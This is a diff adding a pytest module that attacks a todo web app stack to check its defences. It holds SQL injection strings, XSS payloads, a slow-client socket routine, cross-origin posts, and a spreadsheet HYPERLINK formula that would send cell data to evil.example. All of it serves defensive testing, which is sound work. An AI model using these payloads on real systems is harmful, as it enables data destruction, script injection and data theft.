@@ -1,0 +1,361 @@
+"""Hostile input and secrets, against real gunicorn + Caddy + a Celery worker over a private
+PostgreSQL that requires a password.
+
+Covered elsewhere and not repeated here: JSON log lines stay one per record with hostile
+text in body, path and User-Agent (tests/test_logs.py::test_hostile_text_stays_one_json_line,
+::test_a_request_id_with_a_newline_never_reaches_the_log), a path scan adds a bounded number of
+series (tests/test_metrics.py::test_a_path_scan_adds_only_a_handful_of_series), containers run
+as non-root (tests/test_stack_config.py::test_compose_services_run_as_non_root_users,
+::test_dockerfile_builds_small_non_root_images_from_the_lock_files), the admin route's token
+(tests/test_faults.py::test_admin_route_needs_the_token; repeated briefly below with the
+secrets check).
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import re
+import select
+import shutil
+import socket
+import threading
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from urllib.parse import quote
+
+import psycopg2
+import pytest
+import requests
+
+from app import create_app
+from app.migrate import upgrade
+from app.settings import PROJECT_ROOT, Settings, SettingsError
+from tests.support.processes import Proc, free_port, start, start_celery_worker, start_gunicorn, wait_until
+from tests.support.services import PrivatePostgres, private_postgres
+
+CADDYFILE = PROJECT_ROOT / "stack" / "caddy" / "Caddyfile"
+PASSWORD = "pw-Zq9-vX3-never-log-me"
+TOKEN = "tok-7f3a9c-admin-switchboard-secret"
+SECRET_KEY = "sk-4b1d-session-signing-secret-value"
+SECRETS = (PASSWORD, TOKEN, SECRET_KEY)
+LIMIT = 1024 * 1024
+EVIL = "https://evil.example"
+
+
+@dataclass
+class Secured:
+    """The stack under attack and everything it answered."""
+
+    pg: PrivatePostgres
+    url: str
+    direct: str
+    proxied: str
+    web: Proc
+    worker: Proc
+    caddy: Proc
+    env: dict[str, str]
+    bodies: list[str] = field(default_factory=list)
+
+    def call(self, method: str, url: str, **kwargs: object) -> requests.Response:
+        """Send a request and keep its body for the secrets check."""
+        kwargs.setdefault("timeout", 15)
+        kwargs.setdefault("allow_redirects", False)
+        response = requests.request(method, url, **kwargs)  # type: ignore[arg-type]
+        self.bodies.append(response.text + json.dumps(dict(response.headers)))
+        return response
+
+    def count_todos(self) -> int:
+        """Rows in the todos table, straight from the database."""
+        conn = psycopg2.connect(self.pg.url("todolab"))
+        with conn.cursor() as cur:
+            cur.execute("SELECT count(*) FROM todos")
+            (count,) = cur.fetchone()  # type: ignore[misc]
+        conn.close()
+        return int(count)
+
+
+@pytest.fixture(scope="module")
+def secured(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Secured]:
+    """Private PostgreSQL with password auth, gunicorn, a worker and Caddy, secrets set."""
+    caddy_bin = shutil.which("caddy")
+    if caddy_bin is None:
+        pytest.fail("caddy is not installed (apt-get install caddy)")
+    tmp = tmp_path_factory.mktemp("secured")
+    with private_postgres(password=PASSWORD) as pg:
+        url = Settings.from_env({"DATABASE_URL": pg.create_database("todolab")}).database_url
+        upgrade(database_url=url)
+        env = {"VAR_DIR": str(tmp), "APP_ENV": "test", "DATABASE_URL": url, "FAULTS_TOKEN": TOKEN,
+               "SECRET_KEY": SECRET_KEY, "LOG_LEVEL": "DEBUG"}
+        web, direct = start_gunicorn(env, tmp / "log", workers=2, threads=4)
+        worker, _ = start_celery_worker(env, tmp / "log", concurrency=1)
+        port = free_port()
+        caddy = start("caddy", [caddy_bin, "run", "--adapter", "caddyfile", "--config", str(CADDYFILE)],
+                      {"CADDY_PORT": str(port), "CADDY_METRICS_PORT": str(free_port()),
+                       "WEB_UPSTREAM": direct.removeprefix("http://"), "CADDY_ADMIN": "off",
+                       "STATIC_ROOT": str(PROJECT_ROOT / "app" / "static"),
+                       "XDG_CONFIG_HOME": str(tmp / "xdg-config"), "XDG_DATA_HOME": str(tmp / "xdg-data")},
+                      tmp / "log")
+        proxied = f"http://127.0.0.1:{port}"
+        try:
+            wait_until(lambda: requests.get(proxied + "/healthz", timeout=2).ok, 30, "Caddy")
+            yield Secured(pg, url, direct, proxied, web, worker, caddy, env)
+        finally:
+            caddy.stop()
+            worker.stop()
+            web.stop()
+
+
+# --- SQL injection -----------------------------------------------------------------------------
+
+INJECTIONS = [
+    "'; DROP TABLE todos; --",
+    "1' OR '1'='1",
+    "Robert'); DELETE FROM todos WHERE ('1'='1",
+    "\\'; TRUNCATE exports; --",
+    "1; SELECT pg_sleep(10)",
+    "%' UNION SELECT id, text FROM todos --",
+]
+
+
+def test_sql_injection_in_text_is_stored_verbatim_and_harms_nothing(secured: Secured) -> None:
+    before = secured.count_todos()
+    for text in INJECTIONS:
+        created = secured.call("POST", secured.direct + "/api/todos", json={"text": text})
+        assert created.status_code == 201, created.text
+        fetched = secured.call("GET", secured.direct + f"/api/todos/{created.json()['id']}")
+        assert fetched.json()["text"] == text
+        form = secured.call("POST", secured.direct + "/add", data={"task": text})
+        assert form.status_code == 303
+    assert secured.count_todos() == before + 2 * len(INJECTIONS)
+
+
+def test_sql_injection_in_ids_is_not_found_and_harms_nothing(secured: Secured) -> None:
+    secured.call("POST", secured.direct + "/api/todos", json={"text": "keep me"})
+    before = secured.count_todos()
+    for raw in ["1 OR 1=1", "1; DROP TABLE todos", "1' --", "0 UNION SELECT 1", "-1", "1e3"]:
+        ident = quote(raw, safe="")
+        for method, path in [("GET", f"/api/todos/{ident}"), ("PATCH", f"/api/todos/{ident}"),
+                             ("DELETE", f"/api/todos/{ident}"), ("POST", f"/toggle/{ident}"),
+                             ("POST", f"/delete/{ident}"), ("POST", f"/edit/{ident}"),
+                             ("GET", f"/tasks/{ident}"), ("GET", f"/download/{ident}")]:
+            kwargs = {"json": {"text": "x"}} if method in ("PATCH", "POST") else {}
+            response = secured.call(method, secured.direct + path, **kwargs)
+            assert response.status_code == 404, (method, path, response.text)
+            assert response.json()["request_id"] == response.headers["X-Request-ID"]
+    reorder = secured.call("POST", secured.direct + "/reorder", json={"order": ["1; DROP TABLE todos"]})
+    assert reorder.status_code in (400, 404), reorder.text
+    assert secured.count_todos() == before
+
+
+# --- HTML and spreadsheet injection ------------------------------------------------------------
+
+SCRIPT = '<script>alert("owned")</script><img src=x onerror=alert(1)>'
+
+
+def test_html_in_task_text_is_escaped_in_the_page(secured: Secured) -> None:
+    secured.call("POST", secured.direct + "/api/todos", json={"text": SCRIPT})
+    for base in (secured.direct, secured.proxied):
+        page = secured.call("GET", base + "/", headers={"Accept": "text/html"})
+        assert page.status_code == 200
+        assert SCRIPT not in page.text and "<img src=x" not in page.text
+        assert "&lt;script&gt;alert(&#34;owned&#34;)&lt;/script&gt;" in page.text
+    # The form's own error page repeats what the user typed: escaped too.
+    too_long = SCRIPT + "x" * 600
+    refused = secured.call("POST", secured.direct + "/add", data={"task": too_long},
+                           headers={"Accept": "text/html"})
+    assert refused.status_code == 400 and "<script>alert" not in refused.text
+    missing = secured.call("GET", secured.direct + "/" + quote(SCRIPT, safe=""),
+                           headers={"Accept": "text/html"})
+    assert missing.status_code == 404 and "<script>alert" not in missing.text
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(secured: Secured, prefix: str,
+                                                                tmp_path: Path) -> None:
+    from app.db import db
+    from app.models import Todo
+    from worker.tasks import write_csv
+
+    app = create_app({"SETTINGS": Settings.from_env(secured.env), "KEEP_LOGGING": True})
+    formula = f'{prefix}HYPERLINK("http://evil.example/?"&A1, "click")'
+    with app.app_context():
+        db.session.add(Todo(text=formula, position=10_000))
+        db.session.commit()
+        path = tmp_path / "export.csv"
+        write_csv(path)
+        db.engine.dispose()
+    with open(path, newline="", encoding="utf-8") as fh:  # keep a cell's own \r
+        rows = list(csv.DictReader(fh))
+    cells = [row["text"] for row in rows]
+    assert "'" + formula in cells
+    # No text cell of the export starts with a character a spreadsheet would evaluate.
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+# --- Oversized bodies, slow clients ------------------------------------------------------------
+
+
+def test_oversized_bodies_are_refused_with_413_by_the_app_and_by_caddy(secured: Secured) -> None:
+    body = b'{"text": "' + b"x" * (LIMIT + 10) + b'"}'
+
+    def chunks() -> Iterator[bytes]:
+        for at in range(0, len(body), 64 * 1024):
+            yield body[at:at + 64 * 1024]
+
+    before = secured.count_todos()
+    for base in (secured.direct, secured.proxied):
+        for data in (body, chunks()):
+            response = secured.call("POST", base + "/api/todos", data=data,
+                                    headers={"Content-Type": "application/json"})
+            assert response.status_code == 413, (base, response.text[:200])
+            # Caddy cuts a chunked body itself and names the status; else the app's message.
+            assert response.json()["error"] in (f"request body too large (limit {LIMIT} bytes)",
+                                                "Request Entity Too Large")
+            assert response.json()["request_id"] == response.headers["X-Request-ID"]
+        form = secured.call("POST", base + "/add", data={"task": "x" * (LIMIT + 10)})
+        assert form.status_code == 413
+    assert secured.count_todos() == before
+    assert secured.call("GET", secured.direct + "/healthz").status_code == 200
+
+
+def slow_client(port: int, results: list[float], byte_interval: float = 0.5) -> None:
+    """Send a request's headers one byte at a time; record when the server hangs up."""
+    request = b"GET /api/todos HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: " + b"s" * 200 + b"\r\n"
+    started = time.monotonic()
+    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
+        for byte in request[:120]:  # bounded: 60 s at most
+            try:
+                readable, _, _ = select.select([sock], [], [], 0)
+                if readable and not sock.recv(4096):
+                    break
+                if readable:
+                    continue  # an error answer (408) is also a hang-up: read till EOF
+                sock.sendall(bytes([byte]))
+            except OSError:
+                break
+            time.sleep(byte_interval)
+        else:
+            results.append(float("inf"))
+            return
+    results.append(time.monotonic() - started)
+
+
+def test_slow_clients_are_cut_by_caddy_while_others_are_served(secured: Secured) -> None:
+    port = int(secured.proxied.rsplit(":", 1)[1])
+    cut_after: list[float] = []
+    # Twice as many slow clients as gunicorn has threads (2 x 4).
+    threads = [threading.Thread(target=slow_client, args=(port, cut_after), daemon=True)
+               for _ in range(16)]
+    for thread in threads:
+        thread.start()
+    served: list[float] = []
+    deadline = time.monotonic() + 8
+    while time.monotonic() < deadline:
+        started = time.monotonic()
+        response = secured.call("GET", secured.proxied + "/api/todos?per_page=5")
+        assert response.status_code == 200
+        served.append(time.monotonic() - started)
+        time.sleep(0.2)
+    for thread in threads:
+        thread.join(40)
+    print(f"16 slow clients cut by Caddy after {min(cut_after):.1f}-{max(cut_after):.1f}s "
+          f"(read_header 10s); meanwhile {len(served)} requests served, slowest "
+          f"{max(served) * 1000:.0f} ms")
+    assert len(cut_after) == 16
+    assert max(cut_after) < 20
+    assert max(served) < 2
+
+
+# --- Cross-site form posts -----------------------------------------------------------------------
+
+
+def test_cross_site_posts_are_refused_and_same_site_or_originless_posts_work(secured: Secured) -> None:
+    todo_id = secured.call("POST", secured.direct + "/api/todos", json={"text": "target"}).json()["id"]
+    before = secured.count_todos()
+    posts = [("/add", {"data": {"task": "csrf"}}), (f"/toggle/{todo_id}", {}),
+             (f"/edit/{todo_id}", {"data": {"text": "changed"}}), (f"/delete/{todo_id}", {}),
+             ("/reorder", {"json": {"order": [todo_id]}}), ("/export", {}),
+             ("/api/todos", {"json": {"text": "csrf"}})]
+    for base in (secured.direct, secured.proxied):
+        for path, kwargs in posts:
+            for origin in (EVIL, "null", "http://127.0.0.1.evil.example"):
+                refused = secured.call("POST", base + path, headers={"Origin": origin}, **kwargs)
+                assert refused.status_code == 403, (base, path, origin, refused.text[:200])
+        html = secured.call("POST", base + "/add", data={"task": "csrf"},
+                            headers={"Origin": EVIL, "Accept": "text/html"})
+        assert html.status_code == 403 and html.headers["X-Request-ID"] in html.text
+    put = secured.call("PUT", secured.direct + "/admin/faults", json={},
+                       headers={"Origin": EVIL, "Authorization": f"Bearer {TOKEN}"})
+    assert put.status_code == 403
+    assert secured.count_todos() == before
+    # The README's curl examples send no Origin; a page of the site itself sends its own.
+    for base in (secured.direct, secured.proxied):
+        origin = base
+        plain = secured.call("POST", base + "/add", data={"task": "from curl"})
+        same = secured.call("POST", base + "/add", data={"task": "from the page"},
+                            headers={"Origin": origin})
+        assert (plain.status_code, same.status_code) == (303, 303)
+    assert secured.count_todos() == before + 4
+
+
+# --- Secrets -------------------------------------------------------------------------------------
+
+
+def test_env_example_holds_no_real_secret() -> None:
+    values = {}
+    for line in (PROJECT_ROOT / ".env.example").read_text().splitlines():
+        if "=" in line and not line.lstrip().startswith("#"):
+            name, value = line.split("=", 1)
+            values[name.strip()] = value.strip()
+    secret_names = [n for n in values if re.search(r"SECRET|PASSWORD|TOKEN|_KEY$", n)]
+    assert {"SECRET_KEY", "POSTGRES_PASSWORD", "JUPYTER_TOKEN"} <= set(secret_names)
+    for name in secret_names:
+        value = values[name]
+        assert value == "" or value.startswith("change-me"), f"{name}={value!r} looks real"
+    for name in ("DATABASE_URL", "CELERY_BROKER_URL", "CELERY_RESULT_BACKEND"):
+        assert "@" not in values[name], f"{name} carries credentials"
+    # Copied unchanged into a production .env, the placeholder is refused at start.
+    with pytest.raises(SettingsError, match="SECRET_KEY"):
+        Settings.from_env({"APP_ENV": "production", "SECRET_KEY": values["SECRET_KEY"]})
+
+
+def test_no_password_token_or_key_in_any_log_line_or_answer(secured: Secured) -> None:
+    admin = secured.direct + "/admin/faults"
+    assert secured.call("GET", admin).status_code == 401
+    wrong = secured.call("GET", admin, headers={"Authorization": "Bearer " + TOKEN[:-1]})
+    assert wrong.status_code == 401 and TOKEN[:-1] not in wrong.text
+    assert secured.call("GET", admin, headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 200
+    # Errors of every kind, and an export that the worker runs and logs.
+    secured.call("POST", secured.direct + "/api/todos", data="{bad json",
+                 headers={"Content-Type": "application/json"})
+    secured.call("GET", secured.direct + "/nowhere")
+    secured.call("DELETE", secured.direct + "/export")
+    task = secured.call("POST", secured.direct + "/export").json()["task_id"]
+    wait_until(lambda: secured.call("GET", f"{secured.direct}/tasks/{task}").json()["state"]
+               in ("succeeded", "failed"), 60, "the export")
+    # The database goes away: the cause is logged and answered, the password never.
+    secured.pg.stop("fast")
+    try:
+        for path in ("/readyz", "/api/todos", "/"):
+            assert secured.call("GET", secured.direct + path).status_code == 503
+        assert secured.call("POST", secured.direct + "/export").status_code == 503
+        time.sleep(1)
+    finally:
+        secured.pg.start()
+    wait_until(lambda: secured.call("GET", secured.direct + "/readyz").status_code == 200, 30,
+               "the database to be back")
+    secured.call("GET", secured.proxied + "/api/todos")
+
+    outputs = {"web": secured.web.output(), "worker": secured.worker.output(),
+               "caddy": secured.caddy.output()}
+    assert "database unavailable" in outputs["web"]
+    assert "***@127.0.0.1" in outputs["web"]  # the startup line names the database, masked
+    for secret in SECRETS:
+        for name, text in outputs.items():
+            assert secret not in text, f"{name} log holds a secret"
+        assert not [b for b in secured.bodies if secret in b], "an answer holds a secret"
+    print(f"checked {sum(len(t.splitlines()) for t in outputs.values())} log lines and "
+          f"{len(secured.bodies)} answers for the password, the token and the secret key")
